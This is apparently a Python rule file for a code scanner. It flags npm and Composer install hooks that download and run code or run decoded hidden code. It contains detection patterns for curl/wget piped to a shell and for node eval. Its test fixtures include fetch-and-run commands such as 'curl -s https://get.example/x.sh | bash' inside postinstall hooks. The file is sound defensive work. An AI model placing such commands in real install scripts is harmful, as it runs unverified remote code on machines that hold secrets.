"""A script that the package manager runs at every installation fetches something and runs it, or runs hidden code.

It runs on every developer's machine and every build server with all their secrets, and what it fetches can be another
thing tomorrow. Most attacks through packages come this way.

Commit what the script needs, or fetch it in a step of its own with a pinned version and a digest that is compared.
"""

from collections.abc import Iterator

import re2

from engines.json_tree import Table, load_table
from engines.rule import Example, Match, rule
from engines.source import SourceFile

HOOKS = ("preinstall", "install", "postinstall", "prepare", "prepublish")
PHP_HOOKS = ("pre-install-cmd", "post-install-cmd", "pre-update-cmd", "post-update-cmd", "post-autoload-dump")
FETCHED = re2.compile(
    r"(?i)\b(?:curl|wget|iwr|invoke-webrequest)\b.{0,400}?(?:\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\|\s*node\b|&&\s*(?:ba)?sh\b"
    r"|\|\s*iex\b|&&\s*chmod\b|&&\s*node\b)"
)
HIDDEN = re2.compile(
    r"(?i)base64\s+(?:-d|--decode)|\bnode\s+(?:-e|--eval)\s.{0,200}?(?:https?:|Buffer\.from|\beval\b)|\beval\s+\"?\$\(curl"
)


@rule(
    title="Install script that fetches code",
    severity="high",
    confidence="medium",
    cwe=494,
    weakness="unverified-download",
    fix="Commit what the script needs, or fetch it with a pinned version and a digest.",
    languages=("json",),
    hints=("install", "prepare", "-cmd"),
    bad=[
        Example('{\n "scripts": {\n  "postinstall": "curl -s https://get.example/x.sh | bash"\n }\n}', "package.json"),
        Example('{"scripts": {"preinstall": "node -e \\"eval(Buffer.from(\'eA==\'))\\""}}', "package.json"),
        Example('{"scripts": {"post-install-cmd": ["wget https://a.example/t && chmod +x t"]}}', "composer.json"),
    ],
    good=[
        Example(
            '{"scripts": {"postinstall": "husky install", "fetch": "curl https://a.example | sh"}}', "package.json"
        ),
        Example('{"scripts": {"prepare": "npm run build && node scripts/curl.js"}}', "package.json"),
        Example('{"scripts": {"post-install-cmd": "@php artisan optimize"}}', "composer.json"),
    ],
)
def find(file: SourceFile) -> Iterator[Match]:
    name = file.path.rpartition("/")[2]
    if name not in ("package.json", "composer.json"):
        return
    scripts = load_table(file).table("scripts")
    for hook in HOOKS if name == "package.json" else PHP_HOOKS:
        if any(FETCHED.search(line) or HIDDEN.search(line) for line in _commands(scripts, hook)):
            line = scripts.lines[hook]
            text = file.lines[line - 1]
            yield Match.span(line, 1, len(text) + 1, f"`{hook}` fetches code and runs it.", tokens=f"script {hook}")


def _commands(scripts: Table, hook: str) -> list[str]:
    value = scripts.get(hook)
    return [one[:4000] for one in (value if isinstance(value, list) else [value]) if isinstance(one, str)]
